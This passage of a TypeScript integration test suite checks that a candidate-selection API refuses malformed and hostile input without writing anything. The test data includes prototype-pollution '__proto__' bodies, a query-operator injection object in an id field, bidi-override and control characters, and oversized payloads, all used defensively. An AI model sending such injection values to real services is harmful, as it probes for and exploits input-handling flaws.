import { parse } from 'csv-parse/sync';
import type { Response } from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import { RULE_KEYS, type TSelection } from '../../contracts/index.ts';
import { signedInAs } from '../../test/people.ts';
import { useTestApp } from '../../test/test-app.ts';

/**
 * Hostile and malformed input against every selections route, through HTTP on a real database: malformed
 * input is a 400 naming the field, policy answers 401/403/404, stale versions 409, semantic problems 422,
 * never a 500; a refused write leaves nothing behind; members and the public never see personal fields.
 */
const t = useTestApp();
type Person = Awaited<ReturnType<typeof signedInAs>>;
type Method = 'get' | 'post' | 'patch' | 'put';
interface Detail {
  field: string;
  message: string;
}

let blythId: number;
let hartlepoolId: number;
let officer: Person;
let secondOfficer: Person;
let otherOfficer: Person;
let expiredOfficer: Person;
let member: Person;
let staff: Person;
let admin: Person;
const stamp = Date.now();
const MISSING = 2_147_483_647;

const clpOf = async (code: string) =>
  (await t.db.prisma.clp.findFirstOrThrow({ where: { constituency: { code, boundarySetCode: '2024' } } })).id;

beforeAll(async () => {
  blythId = await clpOf('E14001107');
  hartlepoolId = await clpOf('E14001272');
  officer = await signedInAs(t, 'selection_officer', { clpId: blythId });
  secondOfficer = await signedInAs(t, 'selection_officer', { clpId: blythId });
  otherOfficer = await signedInAs(t, 'selection_officer', { clpId: hartlepoolId });
  expiredOfficer = await signedInAs(t, 'selection_officer', {
    clpId: blythId,
    endsAt: new Date(Date.now() - 60_000),
  });
  member = await signedInAs(t, 'member', { clpId: blythId });
  staff = await signedInAs(t, 'regional_staff', { regionCode: 'E12000001' });
  admin = await signedInAs(t, 'admin');
});

function call(method: Method, url: string, who?: Person, body?: unknown) {
  const req = t.api[method](url);
  if (who) req.set(who.headers);
  return body === undefined ? req : req.send(body as object);
}

const CODES: Record<number, string> = {
  400: 'BAD_REQUEST',
  401: 'UNAUTHENTICATED',
  403: 'FORBIDDEN',
  404: 'NOT_FOUND',
  409: 'CONFLICT',
  413: 'PAYLOAD_TOO_LARGE',
  415: 'UNSUPPORTED_MEDIA_TYPE',
  422: 'UNPROCESSABLE',
};

/** The status and error code; every detail names a field and a reason, and one mentions `word`. */
function refused(res: Response, status: number, word?: string): void {
  expect(res.status, `${res.status} ${res.text.slice(0, 400)}`).toBe(status);
  expect(res.body.error.code).toBe(CODES[status]);
  expect(typeof res.body.error.requestId).toBe('string');
  const details = res.body.error.details as Detail[] | undefined;
  if ((status === 400 || status === 422) && details !== undefined) {
    expect(details.length).toBeGreaterThan(0);
    for (const d of details) {
      expect(typeof d.field).toBe('string');
      expect(d.message.length).toBeGreaterThan(0);
    }
  }
  if (word) expect(JSON.stringify(details ?? res.body.error.message)).toContain(word);
}

const create = async (body: object = {}, who: Person = officer) =>
  (
    await call('post', '/api/selections', who, {
      clpId: who === otherOfficer ? hartlepoolId : blythId,
      electionType: 'general',
      ...body,
    }).expect(201)
  ).body as TSelection;

const addCandidate = async (s: { id: number }, body: object = {}, who: Person = officer) =>
  (
    await call('post', `/api/selections/${s.id}/candidacies`, who, {
      candidate: { name: `Applicant ${stamp}-${Math.random()}` },
      ...body,
    }).expect(201)
  ).body as TSelection;

const selectionRow = (id: number) => t.db.prisma.selection.findUniqueOrThrow({ where: { id } });
const auditCount = (entityType: string, entityId: number) =>
  t.db.prisma.auditEntry.count({ where: { entityType, entityId: String(entityId) } });

describe('ids and query strings', () => {
  const HOSTILE_IDS = ['1e3', '0x1', '%205', '-1', '0', '01', '5.0', '2147483648', '9'.repeat(20), 'NaN'];
  const HOSTILE_IDS_MORE = ['Infinity', '1%00', '%E2%80%AE1', '1,2', '+5', 'true', '[1]'];
  const routes = (id: string): [Method, string, Person | undefined, object | undefined][] => [
    ['get', `/api/selections/${id}`, undefined, undefined],
    ['get', `/api/selections/${id}/history`, officer, undefined],
    ['patch', `/api/selections/${id}`, officer, { version: 1 }],
    ['put', `/api/selections/${id}/ballot`, officer, { version: 1, rounds: [] }],
    ['post', `/api/selections/${id}/candidacies`, officer, { candidate: { name: 'Nobody' } }],
    ['patch', `/api/candidacies/${id}`, officer, { version: 1 }],
    ['patch', `/api/candidacies/${id}/candidate`, officer, { version: 1 }],
    ['post', `/api/candidacies/${id}/consents`, officer, { fields: ['name'], note: 'Signed form' }],
    ['post', `/api/candidacies/${id}/consents/${id}/withdraw`, officer, {}],
    ['post', `/api/candidates/${id}/export`, admin, { reason: 'Subject access' }],
    ['post', `/api/candidates/${id}/erase`, admin, { reason: 'Forget me' }],
  ];

  it.each([...HOSTILE_IDS, ...HOSTILE_IDS_MORE])('refuses the id %j on every route with 400', async (id) => {
    for (const [method, url, who, body] of routes(id)) {
      const res = await call(method, url, who, body);
      expect(res.status, `${method} ${url}: ${res.text.slice(0, 200)}`).toBe(400);
      expect(res.body.error.code).toBe('BAD_REQUEST');
    }
  });

  it('answers 404 for an id that could exist but does not, on every route', async () => {
    for (const [method, url, who, body] of routes(String(MISSING))) {
      const res = await call(method, url, who, body);
      expect(res.status, `${method} ${url}: ${res.text.slice(0, 200)}`).toBe(404);
    }
  });

  it.each([
    ['clp=abc', 'clp'],
    ['clp=0', 'clp'],
    ['clp=1e3', 'clp'],
    ['clp=1&clp=2', 'clp'],
    ['region=e12000001', 'region'],
    ['region=E1200000', 'region'],
    ['region=E12000001%00', 'region'],
    ['stage=nominations', 'stage'],
    ['stage=Longlist', 'stage'],
    ['compliance=off', 'compliance'],
    ['offset=-1', 'offset'],
    ['offset=100001', 'offset'],
    ['limit=0', 'limit'],
    ['limit=201', 'limit'],
    ['limit=1e2', 'limit'],
    ['limit=%205', 'limit'],
    ['limit=', 'limit'],
    ['name=Ada', 'name'],
    ['clp[]=1', 'clp[]'],
    ['clp[id]=1', 'clp'],
  ])('refuses the list query %s with 400 naming %s', async (qs, word) => {
    refused(await call('get', `/api/selections?${qs}`), 400, word);
  });

  it('refuses paging on the CSV and bad filters there, but answers empty lists for unknown regions', async () => {
    refused(await call('get', '/api/selections.csv?limit=5'), 400, 'limit');
    refused(await call('get', '/api/selections.csv?clp=0x1'), 400, 'clp');
    const none = await call('get', '/api/selections?region=E99999999').expect(200);
    expect(none.body).toMatchObject({ items: [], total: 0 });
    const far = await call('get', '/api/selections?offset=100000').expect(200);
    expect(far.body.items).toEqual([]);
    const csv = await call('get', '/api/selections.csv?region=E99999999').expect(200);
    expect(csv.text.trim().split('\n')).toHaveLength(1);
  });

  it('refuses a calendar for both a CLP and a region, and answers 404 for unknown ones', async () => {
    refused(
      await call('get', `/api/selections/calendar.ics?clp=${blythId}&region=E12000001`),
      400,
      'must give clp or region, not both',
    );
    refused(await call('get', '/api/selections/calendar.ics?clp=1e3'), 400, 'clp');
    refused(await call('get', '/api/selections/calendar.ics?region=E12000001&x=1'), 400, 'x');
    refused(await call('get', '/api/selections/calendar.ics?region=E99999999'), 404);
    refused(await call('get', `/api/selections/calendar.ics?clp=${MISSING}`), 404);
  });

  it('refuses bad paging of the history, and pages past the end to nothing', async () => {
    const s = await create();
    refused(await call('get', `/api/selections/${s.id}/history?offset=-1`, officer), 400, 'offset');
    refused(await call('get', `/api/selections/${s.id}/history?limit=201`, officer), 400, 'limit');
    refused(await call('get', `/api/selections/${s.id}/history?offset=2147483648`, officer), 400, 'offset');
    const end = await call('get', `/api/selections/${s.id}/history?offset=2147483647`, officer).expect(200);
    expect(end.body).toEqual({ total: 1, items: [] });
  });
});

describe('malformed bodies', () => {
  const tenThousand = (item: unknown) => Array.from({ length: 10_000 }, () => item);
  const validStage = { stage: 'longlist', plannedOn: null, actualOn: null };

  it.each<[string, object, string]>([
    ['clpId as a string', { clpId: '1' }, 'clpId'],
    ['clpId fractional', { clpId: 1.5 }, 'clpId'],
    ['clpId too large', { clpId: 2_147_483_648 }, 'clpId'],
    ['clpId negative', { clpId: -1 }, 'clpId'],
    ['clpId as an object', { clpId: { $gt: 0 } }, 'clpId'],
    ['an unknown election type', { electionType: 'coronation' }, 'electionType'],
    ['election type as an array', { electionType: ['general'] }, 'electionType'],
    ['a ward of 121 characters', { electionType: 'council', wardName: 'w'.repeat(121) }, 'wardName'],
    ['a ward with a bidi override', { electionType: 'council', wardName: 'Hay\u202Edon' }, 'wardName'],
    ['a ward with a bidi isolate', { electionType: 'council', wardName: 'Hay\u2066don' }, 'wardName'],
    ['a ward with NUL', { electionType: 'council', wardName: 'Hay\u0000don' }, 'wardName'],
    ['a ward with a lone surrogate', { electionType: 'council', wardName: 'Hay\ud800don' }, 'wardName'],
    ['a ward with a line break', { electionType: 'council', wardName: 'Hay\ndon' }, 'wardName'],
    ['a ward with a line separator', { electionType: 'council', wardName: 'Hay\u2028don' }, 'wardName'],
    ['a ward with a C1 control', { electionType: 'council', wardName: 'Hay\u0085don' }, 'wardName'],
    ['sittingMember as a word', { sittingMember: 'yes' }, 'sittingMember'],
    ['a stage that does not exist', { stage: 'nominations' }, 'stage'],
    ['the same stage twice', { stages: [validStage, validStage] }, 'must name each stage once'],
    ['ten stages', { stages: Array.from({ length: 10 }, () => validStage) }, 'stages'],
    ['10,000 stages', { stages: tenThousand({}) }, 'stages'],
    [
      'a stage date that does not exist',
      { stages: [{ ...validStage, plannedOn: '2027-02-30' }] },
      'plannedOn',
    ],
    ['a stage date in 1066', { stages: [{ ...validStage, plannedOn: '1066-10-14' }] }, 'plannedOn'],
    ['a stage date with a time', { stages: [{ ...validStage, plannedOn: '2027-01-01T00:00' }] }, 'plannedOn'],
    ['a stage without its dates', { stages: [{ stage: 'longlist' }] }, 'plannedOn'],
    ['a stage with an unknown key', { stages: [{ ...validStage, note: 'x' }] }, 'note'],
    ['stages as an object', { stages: { longlist: validStage } }, 'stages'],
    ['an unknown key', { id: 5 }, 'id'],
    ['a version on create', { version: 1 }, 'version'],
    ['a __proto__ key', JSON.parse('{"__proto__": {"admin": true}}') as object, '__proto__'],
  ])('refuses a new selection with %s (400), writing nothing', async (_label, patch, word) => {
    const before = await t.db.prisma.selection.count();
    const res = await call('post', '/api/selections', officer, {
      clpId: blythId,
      electionType: 'general',
      ...patch,
    });
    refused(res, 400, word);
    expect(await t.db.prisma.selection.count()).toBe(before);
  });

  it('refuses bodies that are not JSON objects, and bodies over 100 kB', async () => {
    const raw = (body: string, type = 'application/json') =>
      t.api.post('/api/selections').set(officer.headers).set('Content-Type', type).send(body);
    refused(await raw('{"clpId": 1,'), 400);
    refused(await raw('[]'), 400);
    refused(await raw('null'), 400);
    refused(await raw('"general"'), 400);
    refused(await raw(`clpId=${blythId}&electionType=general`, 'application/x-www-form-urlencoded'), 415);
    const huge = await call('post', '/api/selections', officer, {
      clpId: blythId,
      electionType: 'general',
      wardName: 'x'.repeat(200_000),
    });
    refused(huge, 413);
  });

  it.each<[string, object, string]>([
    ['a ward for a general election', { wardName: 'Haydon' }, 'wardName'],
    ['a council selection without a ward', { electionType: 'council' }, 'wardName'],
    ['a council selection with a blank ward', { electionType: 'council', wardName: '  ' }, 'wardName'],
    ['a trigger ballot without a sitting member', { stage: 'trigger_ballot' }, 'stage'],
    [
      'a trigger ballot date without a sitting member',
      { stages: [{ stage: 'trigger_ballot', plannedOn: '2027-01-01', actualOn: null }] },
      'stage',
    ],
    [
      'an actual date for a stage not reached',
      { stage: 'longlist', stages: [{ stage: 'hustings', plannedOn: null, actualOn: '2027-01-01' }] },
      'stages',
    ],
  ])('refuses a new selection with %s (422), writing nothing', async (_label, patch, field) => {
    const before = await t.db.prisma.selection.count();
    const history = await t.db.prisma.auditEntry.count({ where: { entityType: 'selection' } });
    const res = await call('post', '/api/selections', officer, {
      clpId: blythId,
      electionType: 'general',
      ...patch,
    });
    refused(res, 422, field);
    expect((res.body.error.details as Detail[])[0]!.field).toBe(field);
    expect(await t.db.prisma.selection.count()).toBe(before);
    expect(await t.db.prisma.auditEntry.count({ where: { entityType: 'selection' } })).toBe(history);
  });

  it("refuses a selection for a CLP that does not exist (404) or is not the officer's (403)", async () => {
    refused(await call('post', '/api/selections', officer, { clpId: MISSING, electionType: 'general' }), 404);
    refused(
      await call('post', '/api/selections', officer, { clpId: hartlepoolId, electionType: 'general' }),
      403,
    );
  });

  it.each<[string, object, string]>([
    ['no version', { version: undefined }, 'version'],
    ['version 0', { version: 0 }, 'version'],
    ['version as a string', { version: '1' }, 'version'],
    ['a fractional version', { version: 1.5 }, 'version'],
    ['a version past the integer range', { version: 2_147_483_648 }, 'version'],
    ['a stage in the wrong case', { stage: 'Longlist' }, 'stage'],
    [
      'an override of an unknown rule',
      { ruleOverrides: { bogus: { value: 1, reason: 'Because' } } },
      'bogus',
    ],
    [
      'an override of suppressBelow',
      { ruleOverrides: { suppressBelow: { value: 1, reason: 'Small' } } },
      'suppressBelow',
    ],
    [
      'a number for a switch',
      { ruleOverrides: { localInput: { value: 5, reason: 'Because' } } },
      'localInput',
    ],
    [
      'a switch for a number',
      { ruleOverrides: { longlistSize: { value: true, reason: 'Because' } } },
      'longlistSize',
    ],
    [
      'a longlist of none',
      { ruleOverrides: { longlistSize: { value: 0, reason: 'Because' } } },
      'longlistSize',
    ],
    [
      'a longlist of 21',
      { ruleOverrides: { longlistSize: { value: 21, reason: 'Because' } } },
      'longlistSize',
    ],
    [
      'a fractional share',
      { ruleOverrides: { localShare: { value: 33.3, reason: 'Because' } } },
      'localShare',
    ],
    [
      'a share as a string',
      { ruleOverrides: { localShare: { value: '50', reason: 'Because' } } },
      'localShare',
    ],
    ['a negative share', { ruleOverrides: { localShare: { value: -10, reason: 'Because' } } }, 'localShare'],
    ['an override without a reason', { ruleOverrides: { localShare: { value: 40 } } }, 'reason'],
    ['a reason of two letters', { ruleOverrides: { localShare: { value: 40, reason: 'ok' } } }, 'reason'],
    [
      'a reason with a bidi override',
      { ruleOverrides: { localShare: { value: 40, reason: 'stn\u202Eemyap' } } },
      'reason',
    ],
    [
      'a reason of 501 characters',
      { ruleOverrides: { localShare: { value: 40, reason: 'r'.repeat(501) } } },
      'reason',
    ],
    [
      'an override with an extra key',
      { ruleOverrides: { localShare: { value: 40, reason: 'Because', by: 1 } } },
      'by',
    ],
    ['overrides as an array', { ruleOverrides: [{ value: 40, reason: 'Because' }] }, 'ruleOverrides'],
    ['an override as a number', { ruleOverrides: { localShare: 40 } }, 'localShare'],
    [
      'a __proto__ override',
      { ruleOverrides: JSON.parse('{"__proto__": {"value": 1, "reason": "Because"}}') as object },
      'ruleOverrides',
    ],
    ['a source of two letters', { imposed: true, imposedSource: 'ab' }, 'imposedSource'],
    ['imposed as a string', { imposed: 'true' }, 'imposed'],
    ['an unknown key', { clpId: 1 }, 'clpId'],
  ])('refuses an edit with %s (400), changing nothing', async (_label, patch, word) => {
    const s = await create();
    const res = await call('patch', `/api/selections/${s.id}`, officer, { version: s.version, ...patch });
    refused(res, 400, word);
    const row = await selectionRow(s.id);
    expect(row.version).toBe(1);
    expect(row.ruleOverrides).toEqual({});
    expect(await auditCount('selection', s.id)).toBe(1);
  });

  it('refuses semantic problems in an edit (422) and stale versions (409), changing nothing', async () => {
    const s = await create({ stage: 'longlist' });
    const dated = await call('patch', `/api/selections/${s.id}`, officer, {
      version: 1,
      stages: [{ stage: 'longlist', plannedOn: null, actualOn: '2027-01-05' }],
    }).expect(200);
    const v = (dated.body as TSelection).version;
    const cases: [object, string][] = [
      [{ imposed: true }, 'imposedSource'],
      [{ imposed: true, imposedSource: null }, 'imposedSource'],
      [{ stage: 'timetable_set' }, 'stages'],
      [{ electionType: 'council' }, 'wardName'],
      [{ wardName: 'Haydon' }, 'wardName'],
      [{ sittingMember: false, stage: 'trigger_ballot' }, 'stage'],
    ];
    for (const [patch, field] of cases) {
      const res = await call('patch', `/api/selections/${s.id}`, officer, { version: v, ...patch });
      refused(res, 422, field);
    }
    const stale = await call('patch', `/api/selections/${s.id}`, officer, { version: 1, stage: 'hustings' });
    refused(stale, 409);
    expect(stale.body.error.details.current).toMatchObject({ id: s.id, version: v, stage: 'longlist' });
    const future = await call('patch', `/api/selections/${s.id}`, officer, {
      version: v + 1,
      stage: 'hustings',
    });
    refused(future, 409);
    const row = await selectionRow(s.id);
    expect(row).toMatchObject({ version: v, stage: 'longlist', imposed: false, wardName: null });
    expect(await auditCount('selection', s.id)).toBe(2);
  });

  it('refuses an imposition source without the imposition claim rather than dropping it', async () => {
    const s = await create();
    const res = await call('patch', `/api/selections/${s.id}`, officer, {
      version: 1,
      imposed: false,
      imposedSource: 'https://example.org/nec-letter',
    });
    refused(res, 422, 'imposedSource');
    const alone = await call('patch', `/api/selections/${s.id}`, officer, {
      version: 1,
      imposedSource: 'https://example.org/nec-letter',
    });
    refused(alone, 422, 'imposedSource');
  });
});

describe('candidacies and candidates', () => {
  const tenThousand = (item: unknown) => Array.from({ length: 10_000 }, () => item);
  const person = { name: 'Hostile Applicant' };

  it.each<[string, object, string]>([
    ['neither candidate nor candidateId', {}, 'candidate'],
    ['both candidate and candidateId', { candidate: person, candidateId: 1 }, 'candidate'],
    ['an empty name', { candidate: { name: '' } }, 'name'],
    ['a blank name', { candidate: { name: '   ' } }, 'name'],
    ['a name of 121 characters', { candidate: { name: 'n'.repeat(121) } }, 'name'],
    ['a name with a bidi override', { candidate: { name: 'Ada \u202EFictional' } }, 'name'],
    ['a name with NUL', { candidate: { name: 'Ada\u0000' } }, 'name'],
    ['a name with a lone surrogate', { candidate: { name: 'Ada \udc00' } }, 'name'],
    ['a name with a line break', { candidate: { name: 'Ada\r\nFictional' } }, 'name'],
    ['a name as a number', { candidate: { name: 42 } }, 'name'],
    ['a name as an object', { candidate: { name: { first: 'Ada' } } }, 'name'],
    ['an unknown candidate field', { candidate: { ...person, email: 'a@example.org' } }, 'email'],
    ['a candidate id inside the candidate', { candidate: { ...person, id: 1 } }, 'id'],
    ['a gender that is not offered', { candidate: { ...person, gender: 'other' } }, 'gender'],
    ['a flag as a word', { candidate: { ...person, workingClass: 'yes' } }, 'workingClass'],
    ['a flag as a number', { candidate: { ...person, unionMember: 1 } }, 'unionMember'],
    ['withdrawn without the stage reached', { candidate: person, stage: 'withdrawn' }, 'withdrawnAfter'],
    [
      'a stage reached without withdrawing',
      { candidate: person, withdrawnAfter: 'longlisted' },
      'withdrawnAfter',
    ],
    [
      'a stage reached on a longlisted candidacy',
      { candidate: person, stage: 'longlisted', withdrawnAfter: 'applied' },
      'withdrawnAfter',
    ],
    [
      'withdrawn after withdrawing',
      { candidate: person, stage: 'withdrawn', withdrawnAfter: 'withdrawn' },
      'withdrawnAfter',
    ],
    ['a candidacy stage that does not exist', { candidate: person, stage: 'elected' }, 'stage'],
    ['negative years', { candidate: person, yearsLocal: -1 }, 'yearsLocal'],
    ['121 years', { candidate: person, yearsLocal: 121 }, 'yearsLocal'],
    ['fractional years', { candidate: person, yearsLocal: 1.5 }, 'yearsLocal'],
    ['years as a string', { candidate: person, yearsLocal: '5' }, 'yearsLocal'],
    ['1e308 years', { candidate: person, yearsLocal: 1e308 }, 'yearsLocal'],
    [
      'a local connection of 1001 characters',
      { candidate: person, localConnection: 'c'.repeat(1001) },
      'localConnection',
    ],
    [
      '51 nominations',
      {
        candidate: person,
        nominations: Array.from({ length: 51 }, () => ({ kind: 'branch', name: 'Cowpen' })),
      },
      'nominations',
    ],
    ['10,000 nominations', { candidate: person, nominations: tenThousand({}) }, 'nominations'],
    [
      'a nominator kind not offered',
      { candidate: person, nominations: [{ kind: 'church', name: 'St Mary' }] },
      'kind',
    ],
    [
      'a nomination without a name',
      { candidate: person, nominations: [{ kind: 'branch', name: 'x' }] },
      'name',
    ],
    [
      'a nomination dated 2027-02-29',
      { candidate: person, nominations: [{ kind: 'branch', name: 'Cowpen', receivedOn: '2027-02-29' }] },
      'receivedOn',
    ],
    [
      'nominations as an object',
      { candidate: person, nominations: { kind: 'branch', name: 'Cowpen' } },
      'nominations',
    ],
    ['candidateId as a string', { candidateId: '1' }, 'candidateId'],
    ['candidateId 0', { candidateId: 0 }, 'candidateId'],
    ['candidateId past the integer range', { candidateId: 2_147_483_648 }, 'candidateId'],
    ['an unknown key', { candidate: person, selectionId: 1 }, 'selectionId'],
    ['a version on create', { candidate: person, version: 1 }, 'version'],
  ])('refuses an applicant with %s (400), writing nothing', async (_label, body, word) => {
    const s = await create();
    const candidates = await t.db.prisma.candidate.count();
    const res = await call('post', `/api/selections/${s.id}/candidacies`, officer, body);
    refused(res, 400, word);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id } })).toBe(0);
    expect(await t.db.prisma.candidate.count()).toBe(candidates);
  });

  it("refuses another CLP's candidate by id exactly as it refuses an id that does not exist", async () => {
    const theirs = await addCandidate(
      await create({}, otherOfficer),
      {
        candidate: { name: `Hartlepool Secret ${stamp}`, occupation: 'Hartlepool-occupation-secret' },
      },
      otherOfficer,
    );
    const theirId = theirs.candidacies[0]!.personal!.candidate.id;
    const s = await create();
    const foreign = await call('post', `/api/selections/${s.id}/candidacies`, officer, {
      candidateId: theirId,
    });
    const missing = await call('post', `/api/selections/${s.id}/candidacies`, officer, {
      candidateId: MISSING,
    });
    refused(foreign, 422, 'candidateId');
    refused(missing, 422, 'candidateId');
    const strip = (r: Response) => ({ ...r.body.error, requestId: undefined });
    expect(strip(foreign)).toEqual(strip(missing));
    expect(foreign.text).not.toContain('Hartlepool');
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id } })).toBe(0);
  });

  it('answers an admin adding a candidate id that does not exist with 404 or 422, not 500', async () => {
    const s = await create();
    const res = await call('post', `/api/selections/${s.id}/candidacies`, admin, { candidateId: MISSING });
    expect([404, 422], res.text.slice(0, 300)).toContain(res.status);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id } })).toBe(0);
  });

  it('refuses the same candidate twice in one selection (409), writing nothing', async () => {
    const s = await addCandidate(await create());
    const id = s.candidacies[0]!.personal!.candidate.id;
    refused(await call('post', `/api/selections/${s.id}/candidacies`, officer, { candidateId: id }), 409);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id } })).toBe(1);
    // The officer may bring their own candidate into another of the CLP's selections.
    await call('post', `/api/selections/${(await create()).id}/candidacies`, officer, {
      candidateId: id,
    }).expect(201);
  });

  it('refuses malformed and stale edits of a candidacy and of a candidate, changing nothing', async () => {
    const s = await addCandidate(await create(), {
      candidate: { name: 'Edit Target', occupation: 'Welder' },
    });
    const c = s.candidacies[0]!;
    const url = `/api/candidacies/${c.id}`;
    const bad: [object, string][] = [
      [{}, 'version'],
      [{ version: 1, stage: 'withdrawn' }, 'withdrawnAfter'],
      [{ version: 1, stage: 'withdrawn', withdrawnAfter: null }, 'withdrawnAfter'],
      [{ version: 1, stage: 'applied', withdrawnAfter: 'longlisted' }, 'withdrawnAfter'],
      [{ version: 1, stage: 'elected' }, 'stage'],
      [{ version: 1, name: 'Renamed' }, 'name'],
      [{ version: 1, candidateId: 1 }, 'candidateId'],
      [{ version: 1, yearsLocal: 500 }, 'yearsLocal'],
      [{ version: 1, localConnection: 'Lives at\u202E 12' }, 'localConnection'],
    ];
    for (const [body, word] of bad) refused(await call('patch', url, officer, body), 400, word);
    refused(await call('patch', url, officer, { version: 2, stage: 'longlisted' }), 409);
    const badCandidate: [object, string][] = [
      [{ name: 'Renamed' }, 'version'],
      [{ version: 1, name: '' }, 'name'],
      [{ version: 1, erasedAt: null }, 'erasedAt'],
      [{ version: 1, stage: 'longlisted' }, 'stage'],
      [{ version: 1, gender: 'W' }, 'gender'],
    ];
    for (const [body, word] of badCandidate)
      refused(await call('patch', `${url}/candidate`, officer, body), 400, word);
    refused(await call('patch', `${url}/candidate`, officer, { version: 7, name: 'Renamed' }), 409);
    const row = await t.db.prisma.candidacy.findUniqueOrThrow({
      where: { id: c.id },
      include: { candidate: true },
    });
    expect(row).toMatchObject({ version: 1, stage: 'applied', withdrawnAfter: null });
    expect(row.candidate).toMatchObject({ version: 1, name: 'Edit Target', occupation: 'Welder' });
  });

  it('refuses a stage reached on an edit that does not withdraw, rather than dropping it', async () => {
    const s = await addCandidate(await create());
    const c = s.candidacies[0]!;
    const res = await call('patch', `/api/candidacies/${c.id}`, officer, {
      version: 1,
      withdrawnAfter: 'longlisted',
    });
    refused(res, res.status === 422 ? 422 : 400, 'withdrawnAfter');
  });
});

describe("the members' ballot", () => {
  const round = (n: number, votes: [number, number][], exhausted = 0) => ({
    round: n,
    exhausted,
    votes: votes.map(([candidacyId, v]) => ({ candidacyId, votes: v })),
  });

  async function shortlistOf(size: number, stage = 'members_ballot') {
    const s = await create({ stage });
    const made = [];
    for (let i = 0; i < size; i++) {
      const candidate = await t.db.prisma.candidate.create({ data: { name: `Ballot ${stamp} ${i}` } });
      made.push(
        await t.db.prisma.candidacy.create({
          data: { selectionId: s.id, candidateId: candidate.id, stage: 'shortlisted' },
        }),
      );
    }
    return { s, ids: made.map((c) => c.id) };
  }

  it('refuses malformed rounds (400) and rounds that do not add up (422), writing nothing', async () => {
    const { s, ids } = await shortlistOf(3);
    const [a, b, c] = ids as [number, number, number];
    const elsewhere = (await shortlistOf(1)).ids[0]!;
    const applicantOnly = (await addCandidate(s)).candidacies.at(-1)!.id;
    const put = (rounds: unknown, version: unknown = s.version) =>
      call('put', `/api/selections/${s.id}/ballot`, officer, { version, rounds });
    const first = round(1, [
      [a, 40],
      [b, 35],
      [c, 25],
    ]);
    const malformed: [unknown, string][] = [
      [Array.from({ length: 51 }, (_, i) => round(i + 1, [[a, 1]])), 'rounds'],
      [[round(0, [[a, 1]])], 'round'],
      [[round(51, [[a, 1]])], 'round'],
      [[round(1, [[a, -1]])], 'votes'],
      [[round(1, [[a, 1.5]])], 'votes'],
      [[round(1, [[a, 1_000_001]])], 'votes'],
      [[round(1, [[a, 1]], -1)], 'exhausted'],
      [[round(1, [])], 'votes'],
      [
        [
          round(
            1,
            Array.from({ length: 51 }, () => [a, 1] as [number, number]),
          ),
        ],
        'votes',
      ],
      [[{ ...first, winner: a }], 'winner'],
      [[round(1, [['a' as unknown as number, 1]])], 'candidacyId'],
      [{ 1: first }, 'rounds'],
    ];
    for (const [rounds, word] of malformed) refused(await put(rounds), 400, word);
    refused(await put([first], '1'), 400, 'version');
    const wrong: [unknown[], string][] = [
      [
        [
          round(2, [
            [a, 40],
            [b, 35],
            [c, 25],
          ]),
        ],
        'rounds.0.round',
      ],
      [
        [
          first,
          round(3, [
            [a, 60],
            [b, 40],
          ]),
        ],
        'rounds.1.round',
      ],
      [
        [
          round(1, [
            [a, 40],
            [a, 35],
          ]),
        ],
        'rounds.0.votes.1.candidacyId',
      ],
      [
        [
          round(1, [
            [a, 40],
            [elsewhere, 35],
          ]),
        ],
        'rounds.0.votes.1.candidacyId',
      ],
      [
        [
          round(1, [
            [a, 40],
            [MISSING, 35],
          ]),
        ],
        'rounds.0.votes.1.candidacyId',
      ],
      [
        [
          round(1, [
            [a, 40],
            [applicantOnly, 35],
          ]),
        ],
        'rounds.0.votes.1.candidacyId',
      ],
      [
        [
          round(
            1,
            [
              [a, 40],
              [b, 35],
            ],
            5,
          ),
        ],
        'rounds.0.exhausted',
      ],
      [
        [
          first,
          round(2, [
            [a, 40],
            [b, 35],
            [c, 25],
          ]),
        ],
        'rounds.1.votes',
      ],
      [
        [
          first,
          round(2, [
            [a, 30],
            [b, 70],
          ]),
        ],
        'rounds.1.votes.0.votes',
      ],
      [
        [
          first,
          round(
            2,
            [
              [a, 60],
              [b, 35],
            ],
            0,
          ),
        ],
        'rounds.1.exhausted',
      ],
      [
        [
          first,
          round(
            2,
            [
              [a, 50],
              [b, 45],
            ],
            5,
          ),
          round(3, [[a, 95]], 4),
        ],
        'rounds.2.exhausted',
      ],
    ];
    for (const [rounds, field] of wrong) {
      const res = await put(rounds);
      refused(res, 422, field);
    }
    refused(await put([first], s.version + 1), 409);
    expect(await t.db.prisma.ballotRound.count({ where: { selectionId: s.id } })).toBe(0);
    expect((await selectionRow(s.id)).version).toBe(s.version);
  });

  it('records a ballot of 50 rounds, one eliminated each round', async () => {
    const { s, ids } = await shortlistOf(50);
    // Each round the last candidate left is eliminated and their 100 votes go to the first.
    const rounds = Array.from({ length: 50 }, (_, r) =>
      round(
        r + 1,
        ids.slice(0, 50 - r).map((id, i) => [id, i === 0 ? 100 * (r + 1) : 100] as [number, number]),
      ),
    );
    const res = await call('put', `/api/selections/${s.id}/ballot`, officer, { version: s.version, rounds });
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    expect((res.body as TSelection).ballot).toHaveLength(50);
    expect((res.body as TSelection).ballot[49]!.votes).toEqual([{ candidacyId: ids[0], votes: 5000 }]);
  });
});

describe('consents and data rights', () => {
  it('refuses consents for unknown fields, without name, twice-named, empty or oversized (400)', async () => {
    const s = await addCandidate(await create());
    const url = `/api/candidacies/${s.candidacies[0]!.id}/consents`;
    const bad: [object, string][] = [
      [{ fields: ['name', 'email'], note: 'Signed form' }, 'fields.1'],
      [{ fields: ['occupation'], note: 'Signed form' }, 'must include name'],
      [{ fields: ['name', 'name'], note: 'Signed form' }, 'must name each field once'],
      [{ fields: Array.from({ length: 10_000 }, () => 'name'), note: 'Signed form' }, 'fields'],
      [{ fields: [], note: 'Signed form' }, 'fields'],
      [{ fields: 'name', note: 'Signed form' }, 'fields'],
      [{ fields: ['name'] }, 'note'],
      [{ fields: ['name'], note: 'ok' }, 'note'],
      [{ fields: ['name'], note: 'n'.repeat(501) }, 'note'],
      [{ fields: ['name'], note: 'Signed\u0000form' }, 'note'],
      [{ fields: ['name'], note: 'Signed form', withdrawnAt: null }, 'withdrawnAt'],
      [{ fields: ['Name'], note: 'Signed form' }, 'fields'],
    ];
    for (const [body, word] of bad) refused(await call('post', url, officer, body), 400, word);
    expect(
      await t.db.prisma.candidateConsent.count({
        where: { candidateId: s.candidacies[0]!.personal!.candidate.id },
      }),
    ).toBe(0);
  });

